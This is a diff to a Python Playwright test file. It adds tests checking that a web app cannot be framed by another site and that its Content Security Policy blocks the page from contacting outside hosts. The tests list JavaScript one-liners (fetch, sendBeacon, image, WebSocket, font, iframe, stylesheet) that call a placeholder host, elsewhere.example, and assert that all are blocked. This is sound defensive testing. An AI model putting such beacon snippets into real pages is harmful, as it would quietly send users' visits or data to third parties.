@@ -5,10 +5,16 @@ from __future__ import annotations
 import json
 import re
 import sqlite3
+from collections.abc import Iterator
+from contextlib import contextmanager
+from functools import partial
+from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
+from threading import Thread
 from typing import Any
 
-from playwright.sync_api import Page, WebSocketRoute, expect
+import pytest
+from playwright.sync_api import Error, Page, Route, WebSocketRoute, expect
 
 from quattrocento.cli.main import run
 from tests.server.houses import ServerProcess
@@ -32,6 +38,29 @@ SINKS = {
     "Svelte's policy again": "trustedTypes.createPolicy('svelte-trusted-html', { createHTML: (html) => html })",
     "a policy for everything": "trustedTypes.createPolicy('default', { createHTML: (html) => html })",
 }
+
+
+ELSEWHERE = "http://elsewhere.example"
+# Each is a way for a page to tell somebody else that it is open.
+WAYS_OUT = {
+    "fetch": "fetch(address + '/').catch(() => {})",
+    "beacon": "navigator.sendBeacon(address + '/', 'here')",
+    "image": "new Image().src = address + '/'",
+    "socket": "try { new WebSocket(address.replace('http', 'ws')) } catch {}",
+    "font": "new FontFace('theirs', `url(${address}/)`).load().catch(() => {})",
+    "frame": "document.body.append(Object.assign(document.createElement('iframe'), { src: address }))",
+    "style": "document.body.append(Object.assign(document.createElement('link'), "
+    "{ rel: 'stylesheet', href: address }))",
+}
+
+
+@contextmanager
+def another_site(folder: Path) -> Iterator[str]:
+    """Somebody else's pages, on this machine: a browser does not let pages of the net frame what is here, anyway."""
+    with ThreadingHTTPServer(("127.0.0.1", 0), partial(SimpleHTTPRequestHandler, directory=folder)) as site:
+        Thread(target=site.serve_forever, daemon=True).start()
+        yield f"http://127.0.0.1:{site.server_port}/"
+        site.shutdown()
 
 
 def reports(server: ServerProcess, table: str) -> list[dict[str, Any]]:
@@ -63,6 +92,42 @@ def test_text_never_becomes_markup_or_script(visit: Visit) -> None:
         assert any("content policy" in fault for fault in visitor.faults), name  # as in every other test with a page
     assert page.evaluate("() => window.__owned") is None
     assert tile(page).is_visible()
+
+
+def test_another_page_that_frames_ours_shows_nothing_of_it(visit: Visit, tmp_path: Path) -> None:
+    visitor = visit()
+    visitor.excuse("elsewhere|frame|favicon")
+    (tmp_path / "index.html").write_text(f"<iframe src='{visitor.server}/'></iframe>")
+    with another_site(tmp_path) as elsewhere:
+        visitor.page.goto(elsewhere)  # until the frame, too, has got what it gets
+
+    assert visitor.page.frames[1].url == "chrome-error://chromewebdata/"
+
+
+def test_the_page_can_ask_nobody_else_and_whoever_lets_it_fails_his_test(visit: Visit) -> None:
+    visitor = visit()
+    visitor.excuse("Content Security Policy|elsewhere")
+    reached: list[str] = []
+
+    def reach(route: Route) -> None:
+        reached.append(route.request.url)
+        route.abort()
+
+    visitor.context.route(f"{ELSEWHERE}/**", reach)
+    page = visitor.page
+    page.goto("/")
+    tile(page).wait_for()
+    for name, way in WAYS_OUT.items():
+        visitor.faults.clear()
+        with page.expect_event("console", lambda said: "Content Security Policy" in said.text):
+            page.evaluate(f"(address) => {{ {way} }}", ELSEWHERE)
+        assert visitor.faults, name
+    assert reached == []
+
+    visitor.faults.clear()
+    with pytest.raises(Error):
+        page.goto(f"{ELSEWHERE}/")
+    assert f"a request to elsewhere: {ELSEWHERE}/" in visitor.faults
 
 
 class Spoiler:
